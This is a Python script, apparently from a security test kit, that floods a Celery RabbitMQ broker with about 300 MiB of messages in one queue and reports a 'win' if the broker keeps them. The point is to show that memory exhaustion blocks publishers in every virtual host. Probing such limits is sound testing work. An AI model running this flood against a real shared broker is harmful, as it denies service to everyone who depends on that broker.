"""A broker that runs out of memory blocks everybody who publishes, in every virtual host."""

import os

from attack_kit import is_worker, on_rabbitmq, ran, won
from kombu import Connection

MIB = 1024 * 1024
MUCH = 300

ran()
if not is_worker() and on_rabbitmq():
    with Connection(os.environ["CELERY_BROKER_URL"], connect_timeout=5) as link:
        channel = link.channel()
        channel.queue_declare("flood", durable=False, auto_delete=False)
        message = channel.prepare_message(b"x" * MIB, content_encoding="binary")
        try:
            for _ in range(MUCH):
                channel.basic_publish(message, "", "flood")
            held = channel.queue_declare("flood", passive=True).message_count
            ran(f"{held} MiB lie in one queue")
            if held >= MUCH - 10:
                won(f"{held} MiB lie in one queue")
        except Exception as error:
            ran(f"refused: {error!r}")
